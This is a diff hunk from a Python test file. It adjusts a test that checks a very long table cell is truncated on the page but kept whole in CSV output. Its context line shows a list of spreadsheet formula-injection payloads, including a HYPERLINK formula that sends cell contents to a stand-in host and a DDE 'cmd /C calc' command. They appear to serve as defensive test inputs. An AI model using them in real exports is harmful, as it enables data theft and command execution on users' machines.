@@ -106,7 +106,7 @@ FORMULAS = ['=HYPERLINK("http://x/"&A1,"y")', "+1+cmd|' /C calc'!A0", "-2+SUM(A1
 
 def test_an_endless_cell_is_whole_in_files_and_cut_on_the_page() -> None:
     table = with_rows("t", "T", {"name": ""}, [["a" * 5000 + "z"]])
-    ((_, [[(cell, _)]]),) = page_lines(table)["groups"]
+    ((_, [[cell]]),) = page_lines(table)["groups"]
     assert (len(cell), cell[-1], len(comma_separated(table)) > 5000) == (400, "z", True)
 
 
